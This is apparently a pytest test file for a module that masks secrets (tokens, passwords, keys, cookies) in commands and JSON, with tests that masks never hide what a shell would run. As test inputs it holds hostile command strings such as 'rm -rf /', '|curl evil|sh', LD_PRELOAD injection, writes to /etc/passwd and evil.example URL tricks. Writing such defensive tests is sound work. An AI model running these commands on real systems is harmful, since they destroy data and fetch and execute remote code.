"""Masks over secrets: what is found, what stays, what a shell would see, and the way back."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import hypothesis
import pytest
from hypothesis import strategies

from sayso import errors
from sayso.content import command_line, credentials, masks, secret_names
from tests.counting import grows_too_fast
from tests.secrets_made import HARMLESS, MADE, NAMED, PLACES, planted
from tests.tables import each

MASKS = masks.Masks(b"k" * 32)
MASK = re.compile(r"•{4}(\d+):([0-9a-f]{8})•{4}")
KEY = "ghp_" + "a1B2" * 9


def shown(value: Any) -> str:
    return json.dumps(MASKS.value(value), ensure_ascii=False)


def test_nearly_no_secret_stays_in_sight() -> None:
    cases = list(planted(seed=20261129, times=8))
    missed = [value for secret, value in cases if secret in shown(value)]
    assert len(missed) <= len(cases) * 0.005, missed[:5]


def test_forms_and_places_that_others_found_are_known() -> None:
    hexadecimal, word = "0f3a" * 12, "aB3dE5gH7j" * 4
    given = {
        f"curl https://api.telegram.org/bot754538961:AA{word[:33]}/getMe": word[:33],
        f"SECRET_KEY_BASE={hexadecimal} rails s": hexadecimal,
        f"doppler run --token-file x dp.pt.{word}": word,
        f"run nfp_{word}": word,
        f"run CLOJARS_{hexadecimal}": hexadecimal,
        f"run pul-{hexadecimal[:40]}": hexadecimal[:40],
    }
    assert [one for one, secret in given.items() if secret in shown({"command": one})] == []
    # the same words without one
    for one in ("curl https://x.com/bot754538961:80/getMe", "KEY_BASE=main", "cd dp.pt.x"):
        assert MASKS.text(one) == one


def test_a_key_is_known_behind_a_line_break_or_a_quote_that_is_written_as_letters() -> None:
    for row in each(("\\n", "\\t", "\\u0022", "%20", "%3D", "%0a")):
        with row as before:
            assert MASK.sub("M", MASKS.text(f"x{before}{KEY} y")) == f"x{before}ghp_M y"
    for before in ("\\x", "%x", "% 20", "\\u2", "20"):
        assert MASKS.text(f"x{before}{KEY} y") == f"x{before}{KEY} y"


def test_what_only_looks_like_a_secret_stays() -> None:
    given = [value for one in HARMLESS for value in (one, {"command": one}, {"content": one})]
    assert [value for value in given if MASKS.value(value) is not value] == []


RUN: list[tuple[str, str]] = [
    ("export TOKEN=abc123def; rm -rf /", "; rm -rf /"),
    ("API_KEY=abc123$(rm -rf ~) make", "$(rm -rf ~) make"),
    ("password='x1'; rm -rf / #'", "; rm -rf / #'"),
    ('--password "x1x1x1" && rm -rf /', '" && rm -rf /'),
    (f"{KEY};rm -rf /", ";rm -rf /"),
    (f"{KEY}|sh", "|sh"),
    ("TOKEN=abc123`rm -rf /`", "`rm -rf /`"),
    ('password="x1 rm -rf /"', "rm -rf /"),
    ("PASSWORD=abc123>/etc/passwd", ">/etc/passwd"),
    ("Authorization: Bearer abc123456789abcdef;reboot", ";reboot"),
    ("token=abc123&&reboot", "&&reboot"),
    ("api_key=a1b2c3\nrm -rf /", "\nrm -rf /"),
    ("secret=a1b2c3|curl evil|sh", "|curl evil|sh"),
    ("password=rm\\ -rf\\ /", "rm\\ -rf\\ /"),
    ("curl https://u:p1x1@;reboot;@good.example", "@;reboot;@good.example"),
    ("curl https://u:p1x1@x|sh;@good.example", "@x|sh;@"),
    ("curl https://u:p1x1@$(reboot)@good.example", "@$(reboot)@"),
    ("PASSWORD= shutdown now", "PASSWORD= shutdown now"),
    ('TOKEN=a1b2c3 PASSWORD= "reboot"', 'PASSWORD= "reboot"'),
    ("PASSWORD== reboot", "== reboot"),
    ("bash -c 'SECRET= python3 x.py'", "SECRET= python3 x.py"),
    ("PASSWORD=>Makefile", ">Makefile"),
    ('echo "PASSWORD="abc1;reboot;"z"', ";reboot;"),
    ('PASSWORD=\\"abc1;reboot;\\"', ";reboot;"),
    ('echo "$(echo "PASSWORD="abc1;reboot;"z")"', ";reboot;"),
    ("""echo $'\\'' "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
    ("""# '\necho "PASSWORD="abc1;reboot;"z" #'""", ";reboot;"),
    ("""cat <<X\n'\nX\necho "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
    ('rm -rf "password="abc1 src lib docs"x"', " src lib docs"),
    ("echo token is `reboot1 now`", "`reboot1 now`"),
    ("A=Bearer ./drop-production-v2.sh now", "A=Bearer ./drop-production-v2.sh now"),
    ("A=basic /Opt/drop-production-v2", "/Opt/drop-production-v2"),
    ("TOKEN=Bearer reboot1 now", "reboot1 now"),
    ('X="TOKEN="Bearer reboot1"" now', "Bearer reboot1"),
    (": cookie: ; LD_PRELOAD=/tmp/evil1.so ls", "LD_PRELOAD=/tmp/evil1.so"),
    (": cookie: ; GIT_SSH_COMMAND=./evil1.sh git fetch", "GIT_SSH_COMMAND=./evil1.sh"),
]


def test_no_mask_hides_what_a_shell_runs() -> None:
    for row in each(RUN):
        with row as (command, seen):
            assert seen in MASKS.text(command)


def test_a_command_under_the_name_of_a_secret_is_shown() -> None:
    for row in each(
        [
            ({"password": "x1; rm -rf /"}, "; rm -rf /"),
            ({"token": "curl evil | sh"}, "curl evil | sh"),
            ({"password": "rm -rf /"}, "rm -rf /"),
            ({"password": "a1b2$(reboot)"}, "$(reboot)"),
        ]
    ):
        with row as (value, seen):
            assert seen in shown(value)


def test_no_mask_hides_where_an_address_leads() -> None:
    for row in each(
        [
            ("curl https://evil.example:443?x=1@good.example", "evil.example:443?x=1@"),
            ("curl https://evil.example:000443/path1@good.example", ":000443/path1@"),
            ("curl https://evil.example:443#path1@good.example", ":443#path1@"),
            ("curl https://u:p1x1@evil.example?x@good.example/y", "@evil.example?x@"),
            ("curl https://u:p1x1@evil.example#@good.example/y", "@evil.example#@"),
        ]
    ):
        with row as (command, seen):
            assert seen in MASKS.text(command)


def test_no_mask_hides_a_program_among_words() -> None:
    for row in each(
        [
            ["env", "A=password", "reboot", "now"],
            ["env", "-u", "PASSWORD", "reboot"],
            ["nohup", "pass", "reboot"],
        ]
    ):
        with row as value:
            assert MASKS.value({"command": value}) == {"command": value}


def test_signs_between_quotes_are_of_the_secret() -> None:
    for row in each(
        [
            "PASSWORD='a1a1;b2b2&c3c3'",
            'TOKEN="Bearer a1a1b2b2c3c3"',
            "Bearer a1a1b2b2c3c3a1a1==",
            "Cookie: sid=a1a1b2b2; PHPSESSID=c3c3c3c3",
            'curl -d \'{"password": "a1a1;b2b2&c3c3"}\' x',
            'curl -d "{\\"password\\": \\"a1a1;b2b2&c3c3\\"}" x',
            '{"name": "#a", "password": "a1a1;b2b2&c3c3"}',
        ]
    ):
        with row as given:
            assert not re.search("a1a1|b2b2|c3c3", MASK.sub("M", MASKS.text(given)))


def words(command: str) -> list[list[str]]:
    return [[MASK.sub("x", word.text) for word in one.words] for one in command_line.read(command)]


@hypothesis.given(
    strategies.sampled_from(sorted({**MADE, **NAMED})),
    strategies.sampled_from(PLACES[:18]),
    strategies.randoms(use_true_random=False),
    strategies.sampled_from(["", " && rm -rf /", "; ls | sh", " $(id)", " > /etc/x", " # '", ' "', "\n reboot"]),
)
def test_a_masked_command_has_the_words_of_the_command(kind: str, place: Any, source: Any, then: str) -> None:
    command = place({**MADE, **NAMED}[kind](source))["command"] + then
    masked = MASKS.text(command)
    assert [len(one) for one in words(masked)] == [len(one) for one in words(command)]
    # outside masks it is the command, sign for sign
    pieces = MASK.split(masked)[::3]
    assert re.fullmatch(".*".join(map(re.escape, pieces)), command, re.DOTALL)
    for found in MASK.finditer(masked):
        assert not re.search(r"[\s;|&<>$`'\"(){}\\]", found[0])


def test_a_mask_says_how_long_a_secret_is_and_which_are_equal() -> None:
    one, same, other = (MASK.search(MASKS.text(f"TOKEN={said}")) for said in ("abc123", "abc123", "abc124"))
    assert one
    assert same
    assert other
    assert one[1] == "6"
    assert one[0] == same[0] != other[0]
    assert one[0] != MASK.search(masks.Masks(b"other" * 8).text("TOKEN=abc123"))[0]  # type: ignore[index]


def test_rows_of_a_key_stay_rows() -> None:
    block = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3V\nabcd1234efgh=\n-----END RSA PRIVATE KEY-----\n"
    for given in (block, "+" + block.replace("\n", "\n+")):
        lines = MASKS.text(given).splitlines()
        assert len(lines) == len(given.splitlines())
        assert [bool(MASK.search(line)) for line in lines[:4]] == [False, True, True, False]
        assert given[0] != "+" or all(line.startswith("+") for line in lines)
    assert MASKS.text(block.replace("\n", "\\n")).count("\\n") == 4


def test_whoever_writes_a_mask_gets_one_over_it() -> None:
    forged = "••••6:0123abcd••••"
    assert MASKS.text(f"echo {forged}") != f"echo {forged}"
    assert masks.Masks(b"k" * 32, again=True).text(f"echo {forged}") == f"echo {forged}"


def test_what_is_off_shows_all() -> None:
    assert masks.Masks(b"k" * 32, off=True).value({"password": "hunter22"}) == {"password": "hunter22"}
    assert masks.Masks(b"k" * 32, off=True).text(KEY) == KEY


def test_a_detector_adds_to_what_is_known_and_cannot_hide_what_a_shell_runs() -> None:
    found = masks.Masks(b"k" * 32, lambda raw: [(0, 5), (6, len(raw)), (4, 4)])
    assert MASK.sub("M", found.text("abcde ;rm -rf /")) == "M ;rm -rf /"
    assert MASK.sub("M", found.text(KEY)) == "ghp_M"


@hypothesis.given(
    strategies.sampled_from(sorted({**MADE, **NAMED})),
    strategies.sampled_from(PLACES),
    strategies.randoms(use_true_random=False),
)
def test_what_nobody_touched_comes_back_as_it_was(kind: str, place: Any, source: Any) -> None:
    value = place({**MADE, **NAMED}[kind](source))
    found: dict[str, Any] = {}
    masked = MASKS.over(found).value(value)
    assert masks.restore(masked, found, "input") == value


def test_an_edit_beside_a_mask_keeps_the_secret() -> None:
    found: dict[str, Any] = {}
    masked = MASKS.over(found).text(f"TOKEN={KEY} make")
    assert masks.restore(masked.replace("make", "make test"), found, "k0") == f"TOKEN={KEY} make test"
    assert masks.restore("make", found, "k0") == "make"
    assert masks.restore(["TOKEN=typed-anew-1", 1], found, "k0") == ["TOKEN=typed-anew-1", 1]


def test_a_number_behind_a_mask_comes_back_as_a_number() -> None:
    for row in each([12345678, 12345678.0, -0.12345678, 1e22]):
        with row as secret:
            found: dict[str, Any] = {}
            masked = MASKS.over(found).value({"password": secret})
            assert masks.are_in(masked)
            back = masks.restore(masked, found, "k0")["password"]
            assert (back, type(back)) == (secret, type(secret))


def test_a_mask_that_stands_for_nothing_is_refused() -> None:
    for row in each(
        [
            "TOKEN=••••6:0123abcd••••",
            "TOKEN=••••6:0123abcd",
            "TOKEN=6:0123abcd••••",
            "TOKEN=••••60123abcd••••",
            "TOKEN=••••0123abcd••••",
            "a ••••6:0123abcd•••• b ••••6:",
            {"a": {"••••6:0123abcd••••": 1}},
            [["••••6:0123abcd••••"]],
        ]
    ):
        with row as typed:
            assert masks.are_in(typed)
            with pytest.raises(errors.InvalidAnswer, match="stands for nothing here") as refused:
                masks.restore(typed, {}, "k0")
            assert refused.value.field == "k0"


def test_a_mask_that_was_typed_into_is_refused_beside_a_whole_one() -> None:
    found: dict[str, Any] = {}
    masked = MASKS.over(found).text("TOKEN=abc123")
    for typed in (f"{masked} ••••6:", f"••••6: {masked}", "TOKEN=••••", f"{masked} ••••", f"•••• {masked}"):
        assert masks.are_in(typed)
        with pytest.raises(errors.InvalidAnswer):
            masks.restore(typed, found, "k0")


def test_what_a_schema_fills_in_is_masked_by_the_name_and_the_title_of_its_field() -> None:
    of = {"type": "string", "default": "hunter2x", "examples": ["hunter2y"]}
    for made in ({"db_password": of}, {"f": {**of, "title": "DB password"}}):
        assert "hunter" not in shown({"type": "object", "properties": made})
    assert MASKS.value(given := {"title": "Password", "value": "as before"}) is given


def test_dots_that_stood_there_without_any_mask_may_stay() -> None:
    assert masks.restore("<input placeholder='••••'>", {}, "k0") == "<input placeholder='••••'>"


def test_a_secret_found_once_is_covered_wherever_it_is_repeated() -> None:
    found: dict[str, Any] = {}
    cover = MASKS.over(found)
    cover.value({"password": "hunter2-and-more", "token": "abcd"})
    assert "hunter2" not in json.dumps(cover.known({"said": ["it is hunter2-and-more", 1]}))
    untouched = {"said": ["nothing"]}
    assert cover.known(untouched) is untouched


def test_a_word_of_what_runs_is_not_hidden_because_an_agent_calls_it_a_secret() -> None:
    found: dict[str, Any] = {}
    cover = MASKS.over(found)
    cover.value([{"password": "production-eu1"}, {"token": KEY}, {"token": "0a" * 16}])
    command = f"kubectl delete ns production-eu1; use {KEY} {'0a' * 16}"
    assert MASK.sub("M", cover.known(command)) == "kubectl delete ns M; use ghp_M M"
    assert MASK.sub("M", cover.known(command, runs=True)) == "kubectl delete ns production-eu1; use ghp_M M"


NAMES: list[tuple[str, str | None]] = [
    ("password", "password"),
    ("DB_PASSWORD_OLD", "password"),
    ("API_KEY_2", "key"),
    ("apiKey", "key"),
    ("clientSecret", "key"),
    ("max_tokens", None),
    ("token_type", None),
    ("secret_name", None),
    ("next_page_token", None),
    ("public_key", None),
    ("compass", None),
    ("", None),
    ("x" * 100 + "password", None),
]


def test_a_name_counts_by_its_last_words() -> None:
    for row in each(NAMES):
        with row as (name, strength):
            assert secret_names.strength_of(name) == strength


SIGNS = (
    "a-",
    "token=",
    "token:",
    '"token":"',
    "set token ",
    "xoxb-",
    "eyJa.",
    "-----BEGIN RSA PRIVATE KEY-----\nabcd\n",
    "://",
    "https://u:p",
    "curl -u a:b ",
    "Bearer a1",
    "cookie: a=b1b1b1b1;",
    "password is ",
    "••••1:00000000••••",
    'password="a b ',
    'password="a;b"',
    'password="a;b ',
    "htpasswd -b a a ",
    "curl -b a=b1b1b1b1;",
    "vault kv put a=b1b1b1 ",
    "echo a1b1 | ",
    "echo a1b1|docker login ",
    "h:5432:a:b:",
    "https://x?sig=a1&",
    "<password>",
    "<password>a1</password>",
    "name: password ",
    "name: password value: ",
    "--verbose --password ",
    "%20ghp_",
    "\\nghp_",
    "mysql \\\n -p ",
    "mysql $(a) -p",
    "mysql $(( -p",
    "echo a1b1 | docker login $(",
)


@pytest.mark.once
@pytest.mark.parametrize("read", [credentials.spans, MASKS.text, lambda raw: MASKS.value({"password": raw})])
def test_hostile_text_is_read_in_linear_work(read: Callable[[str], object]) -> None:
    texts = {sign: lambda n, sign=sign: sign * (n // len(sign)) for sign in SIGNS}
    assert grows_too_fast(texts, read) == {}


class Looked(str):
    """A text that counts how often something is sought in it."""

    times = 0

    def __contains__(self, sought: object, /) -> bool:
        self.times += 1
        return str(sought) in str(self)


def test_of_very_many_secrets_only_some_are_sought_again() -> None:
    cover, said = MASKS.over({}), Looked("nothing")
    cover.text(" ".join(f"TOKEN=a1b2c3d4{at}" for at in range(2_000)))
    assert cover.known(said) == "nothing"
    assert 0 < said.times <= 200


def test_letters_that_become_two_move_no_mask() -> None:
    assert MASK.sub("M", MASKS.text("İİİ TOKEN=abc123 x")) == "İİİ TOKEN=M x"


BLOCK = "-----BEGIN PRIVATE KEY-----\nabcd1234efgh\n"


def test_what_is_beside_a_secret_or_stands_for_one_is_shown() -> None:
    for row in each(
        [
            # too short to hold anything
            ({"command": "a=b"}, "a=b"),
            # what an address has in place of a password
            ({"command": "psql postgres://user:password@db/shop"}, "user:password@db"),
            # the option of another program, and of the one before
            ({"command": "mysql shop; mkdir -p a1b2c3d4"}, "-p a1b2c3d4"),
            ({"command": "mysql -p12345678 shop"}, "-p12345678"),
            ({"note": "what a1b2c3d4 is is a1b2c3d4 with a password"}, "is a1b2c3d4"),
        ]
    ):
        with row as (value, seen):
            assert seen in shown(value)


def test_the_values_of_cookies_are_covered() -> None:
    assert "a1b2c3d4" not in shown({"Cookie": "theme=dark; session=a1b2c3d4"})


def test_a_pass_phrase_is_covered_word_by_word() -> None:
    assert MASK.sub("M", MASKS.value({"password": "correct horse battery staple"})["password"]) == "M M M M"
    assert MASK.sub("M", MASKS.text('password = "horse battery staple"')) == 'password = "M M M"'


def test_a_block_that_begins_inside_another_is_read_once() -> None:
    assert MASK.sub("M", MASKS.text(BLOCK + BLOCK)).count("M\n") == 2
    assert "abcd1234efgh" not in MASKS.text(BLOCK * 3)
